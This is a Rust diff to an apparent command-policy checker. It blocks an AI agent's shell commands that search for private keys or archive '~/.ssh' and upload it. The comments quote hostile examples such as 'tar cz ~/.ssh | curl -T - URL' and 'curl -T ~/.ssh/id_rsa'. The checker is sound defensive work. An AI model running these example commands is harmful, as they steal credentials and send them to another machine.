@@ -148,20 +148,32 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
         // A directory a deny_read glob names a place in (`~/.ssh`): it holds such files on
         // the machines that have them, whether or not this one does.
         // With a name filter, a place whose files it can pick (`find ~ -name '*.pem'`).
-        let reached = if tree.include.is_empty() {
+        // A filter that picks only denied files (`find / -name '*key*.pem'`) is judged before the
+        // places the root reaches: every file it hands the reader is one.
+        let only = (!tree.include.is_empty()).then(|| files::picks_only_denied(root, &tree.include, rules, here));
+        let reached = if only.flatten().is_some() {
+            None
+        } else if tree.include.is_empty() {
             files::could_reach(root, files::Access::Read, rules, here)
                 .or_else(|| files::could_reach(&path.to_string_lossy(), files::Access::Read, rules, here))
         } else {
             files::could_reach_named(root, &tree.include, rules, here)
         };
         let found = match reached {
+            // `find ~ -name 'id_*'`: the filter is the denied place's own name pattern.
+            Some(denied) if names_denied_kind(denied.glob, &tree.include) => Walk::Found {
+                shown: tree.include.join(" "),
+                glob: denied.glob.to_string(),
+                named: true,
+                directory: false,
+            },
             Some(denied) => Walk::Found {
                 shown: denied.glob.to_string(),
                 glob: denied.glob.to_string(),
                 named: false,
                 directory: true,
             },
-            None => match files::picks_only_denied(root, &tree.include, rules, here) {
+            None => match only.flatten() {
                 Some(glob) => Walk::Found {
                     shown: tree.include.join(" "),
                     glob: glob.to_string(),
@@ -179,6 +191,16 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
                         Action::Deny,
                         format!(
                             "`{name}` {} `{root}` and its filter picks `{shown}`, which your policy does not let the agent read (it matches `{glob}` in [files] deny_read); leave this file to the user",
+                            tree.verb
+                        ),
+                    )
+                } else if !path.starts_with(&here.project_root) && crate::rules::output_sent(analysis, index) {
+                    // `tar cz ~/.ssh | curl -T - URL`: the secrets sent away, as `curl -T
+                    // ~/.ssh/id_rsa` is.
+                    (
+                        Action::Deny,
+                        format!(
+                            "`{name}` {} `{root}`, which holds `{shown}`, and sends it to another machine: your policy does not let the agent read it (it matches `{glob}` in [files] deny_read); leave these files to the user",
                             tree.verb
                         ),
                     )
@@ -210,6 +232,15 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
         }
     }
     None
+}
+
+/// Whether a name filter (`id_*`, `id_rsa`) picks the kind of file a deny glob names in its
+/// place (`~/.ssh/id_*`): the glob's last part says more than "any file", and the filter's name,
+/// its wildcards filled, is one it denies.
+fn names_denied_kind(glob: &str, include: &[&str]) -> bool {
+    let last = glob.rsplit('/').next().unwrap_or(glob);
+    !last.trim_matches(['*', '?']).is_empty()
+        && include.iter().any(|name| super::glob::component_matches(last, &name.replace(['*', '?'], "x")))
 }
 
 /// Whether `command` decompresses or prints git's loose objects itself (`zlib-flate
